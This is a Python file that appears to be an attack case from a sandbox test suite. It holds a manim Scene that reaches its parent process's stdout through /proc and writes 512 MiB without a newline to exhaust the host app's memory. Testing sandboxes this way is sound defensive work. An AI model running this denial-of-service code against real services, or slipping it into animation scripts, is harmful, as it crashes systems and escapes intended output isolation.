# family: resource
# layer: sandbox
# runs: cold+warm
# attack: print 16 MiB blocks without a newline (to the worker's own stdout when it can be reached) so the app buffers one endless line
from pathlib import Path
from manim import *


def parent_stdout():
    """The parent's stdout when it is another pipe than ours (a warm worker's pipe to the app), else ours."""
    ppid = open("/proc/self/stat").read().rsplit(")", 1)[1].split()[1]
    try:
        if Path(f"/proc/{ppid}/fd/1").readlink() != Path("/proc/self/fd/1").readlink():
            return open(f"/proc/{ppid}/fd/1", "w")
    except OSError:
        pass
    return None


class Attack(Scene):
    def construct(self):
        out = parent_stdout()
        block = "x" * (16 << 20)
        for _ in range(32):  # 512 MiB, no newline
            if out is not None:
                out.write(block)
                out.flush()
            else:
                print(block, end="", flush=True)
        self.wait(0.1)
